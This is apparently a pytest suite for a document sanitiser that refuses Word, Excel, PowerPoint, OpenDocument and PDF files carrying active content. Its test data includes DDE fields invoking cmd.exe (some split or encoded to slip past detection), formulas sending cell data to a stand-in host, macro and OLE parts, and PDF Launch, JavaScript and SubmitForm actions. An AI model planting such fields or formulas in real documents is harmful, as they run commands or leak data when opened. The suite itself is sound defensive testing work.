"""What a document would do by itself: talk to programs, fetch, open what is not in it."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from pypdf.generic import NameObject, TextStringObject

from coalition.media.cleaning.files import clean
from coalition.media.cleaning.refusal import Refused
from tests import telling_files as telling


def refusal_of(content, name):
    """Its code; nothing if the file is taken."""
    try:
        clean(BytesIO(content), name).close()
    except Refused as refusal:
        return refusal.code
    return None


def docx(words):
    return telling.office("docx", **{"word/footer1.xml": f"<w:ftr>{words}</w:ftr>"})


def mark(which):
    return f'<w:fldChar w:fldCharType="{which}"/>'


def said(words, kind="instrText"):
    return f"<w:r><w:{kind}>{words}</w:{kind}></w:r>"


def field(*pieces):
    return mark("begin") + "".join(pieces) + mark("separate") + "<w:t>1</w:t>" + mark("end")


FETCHING = [
    " DDE cmd ",
    "DDEAUTO c:\\Windows\\cmd.exe",
    "&#68;dea<!-- -->uto excel",
    ' INCLUDEPICTURE "https://elsewhere.example/a.png" \\d',
    '<![CDATA[IncludeText "a.docx"]]>',
    "  LINK Excel.Sheet.8",
    ' IMPORT "a.png"',
    ' RD "chapter.docx"',
    " DATABASE \\d",
]


@pytest.mark.parametrize("words", FETCHING)
@pytest.mark.parametrize("kind", ["instrText", "delInstrText"])
def test_a_field_of_word_that_fetches_is_refused(words, kind):
    fields = field(said(" PAGE ")) + field(said(words, kind))

    assert refusal_of(docx(fields), "a.docx") == "fetches"


@pytest.mark.parametrize(
    "words",
    [
        field(said("DD"), said("EAU"), said("TO c:\\cmd.exe")),
        field(said(" IF "), field(said("DDEAUTO c:\\cmd.exe")), said(" = 1")),
        field(said("D"), "<x:fldChar/>", said("DE excel")),
        '<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>',
        "<w:fldSimple w:instr='&#73;NCLUDEPICTURE \"a\"'/>",
    ],
)
def test_a_field_of_word_is_found_in_whatever_pieces_it_comes(words):
    assert refusal_of(docx(words), "a.docx") == "fetches"


@pytest.mark.parametrize(
    "words",
    [
        " PAGE ",
        "NUMPAGES",
        ' TOC \\o "1-3" \\h ',
        ' HYPERLINK "https://theglobalcoalition.org/include" ',
        ' IF "a" = "LINK" ',
        " REF DDE_1 ",
    ],
)
def test_a_field_of_word_that_counts_or_names_stays(words):
    assert refusal_of(docx(field(said(words)) + field(said(" PAGE "))), "a.docx") is None


def related(extension, part, kind):
    leads = f'<a><Relationship Type="https://schemas.example/{kind}" Target="/{part}"/></a>'
    return telling.office(extension, **{"_rels/a.rels": leads, part: "<a/>"})


@pytest.mark.parametrize(
    "kind",
    [
        "connections",
        "queryTable",
        "externalLink",
        "vbaProject",
        "oleObject",
        "control",
        "aFChunk",
        "webextensiontaskpanes",
        "ui/extensibility",
        "xlMacrosheet",
    ],
)
def test_a_part_that_acts_is_refused_whatever_it_is_called(kind):
    assert refusal_of(related("xlsx", "xl/harmless.xml", kind), "a.xlsx") == "acts"


@pytest.mark.parametrize("kind", ["worksheet", "customXml", "styles", "pivotCacheDefinition"])
def test_a_part_that_does_not_act_stays(kind):
    assert refusal_of(related("xlsx", "xl/harmless.xml", kind), "a.xlsx") is None


@pytest.mark.parametrize(
    ("extension", "part", "words"),
    [
        ("xlsx", "xl/a.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        ("xlsx", "customXml/item1.xml", '<DataMashup xmlns="a">UEsDBA==</DataMashup>'),
        ("pptx", "ppt/slides/slide1.xml", '<a:hlinkClick action="ppaction://program"/>'),
        ("odt", "content.xml", '<office:dde-source office:dde-application="soffice"/>'),
        ("odt", "content.xml", '<text:dde-connection text:connection-name="a"/>'),
        ("odt", "content.xml", '<text:execute-macro text:name="a"/>'),
        ("odt", "content.xml", "<text:script>a()</text:script>"),
        ("odt", "content.xml", '<script:event-listener script:macro-name="a"/>'),
    ],
)
def test_an_element_that_acts_is_refused(extension, part, words):
    members = {part: f"<a>{words}</a>"}
    content = telling.odt(**members) if extension == "odt" else telling.office(extension, **members)

    assert refusal_of(content, f"a.{extension}") == "acts"


def sheet(formula):
    return telling.office("xlsx", **{"xl/worksheets/sheet1.xml": f"<a><f>{formula}</f></a>"})


@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("https://elsewhere.example/?"&amp;A1)',
        '_xlfn.IMAGE("https://elsewhere.example/a.png")',
        '1+dde ("soffice","a","b")',
        'RTD("a",,"b")',
        'A1 WEBSERVICE ("https://elsewhere.example/")',
        f'{"1+" * 4093}WEB&#83;ERVICE("https://elsewhere.example/")',
    ],
)
def test_a_formula_that_asks_other_machines_is_refused(formula):
    assert refusal_of(sheet(formula), "a.xlsx") == "fetches"
    name = {"xl/names.xml": f"<definedName>{formula}</definedName>"}
    assert refusal_of(telling.office("xlsx", **name), "a.xlsx") == "fetches"


def test_a_formula_that_asks_other_machines_is_found_in_an_open_document():
    table = """<a><table:cell table:formula="of:=WEBSERVICE('a')"/></a>"""

    assert refusal_of(telling.odt(**{"Object 1/content.xml": table}), "a.odt") == "fetches"


@pytest.mark.parametrize("formula", ["SUM(A1:B2)", '"see image (1)"', "ADDED(A1)"])
def test_a_formula_that_only_counts_stays(formula):
    assert refusal_of(sheet(formula), "a.xlsx") is None


@pytest.mark.parametrize("kind", ["a:hlinkHover", "a:hlinkMouseOver", "w:mailMerge"])
def test_what_would_act_without_a_click_or_tells_of_a_table_of_names_is_left_out(kind):
    words = f'<a><{kind} r:id="rId1"><b>{telling.SECRET}</b></{kind}><a:hlinkClick r:id="b"/></a>'
    file = telling.office("pptx", **{"ppt/slides/slide1.xml": words})

    with clean(BytesIO(file), "a.pptx") as cleaned, ZipFile(cleaned) as archive:
        slide = archive.read("ppt/slides/slide1.xml").decode()

    assert slide.endswith('<a><a:hlinkClick r:id="b"></a:hlinkClick></a>')


def action(kind, **entries):
    return telling.dictionary(S=f"/{kind}", **entries)


@pytest.mark.parametrize(
    "kind",
    [
        "GoToE",
        "GoToR",
        "ImportData",
        "JavaScript",
        "Launch",
        "Named",
        "SubmitForm",
        "Thread",
        "URI",
    ],
)
def test_a_pdf_that_acts_when_it_is_opened_is_refused(kind):
    file = telling.pdf(telling.opens_with(action(kind, URI="https://elsewhere.example/")))

    assert refusal_of(file, "a.pdf") == "acts"


@pytest.mark.parametrize("key", ["/AA", "/JS", "/OnInstantiate"])
def test_a_page_that_acts_when_it_is_turned_to_is_refused(key):
    file = telling.pdf(
        lambda writer: writer.pages[0].update({NameObject(key): telling.dictionary(O="a")})
    )

    assert refusal_of(file, "a.pdf") == "acts"


def test_a_pdf_may_open_at_a_page_and_link_to_the_web():
    def change(writer):
        telling.opens_with(telling.dictionary(S="/GoTo", D="chapter"))(writer)
        link = action("URI", URI="https://elsewhere.example/")
        writer.pages[0]["/Annots"][0][NameObject("/A")] = link

    assert refusal_of(telling.pdf(change), "a.pdf") is None


def test_what_follows_on_the_opening_of_a_pdf_is_refused():
    opening = telling.dictionary(S="/GoTo", D="chapter")
    opening[NameObject("/Next")] = action("URI", URI="https://elsewhere.example/")

    assert refusal_of(telling.pdf(telling.opens_with(opening)), "a.pdf") == "acts"


@pytest.mark.parametrize("key", ["/F", "/Ref"])
def test_a_picture_in_a_pdf_lies_in_no_other_file(key):
    def change(writer):
        photograph = writer.pages[0]["/Resources"]["/XObject"]["/Photo"]
        photograph[NameObject(key)] = TextStringObject("https://elsewhere.example/a.jpg")

    assert refusal_of(telling.pdf(change), "a.pdf") == "acts"
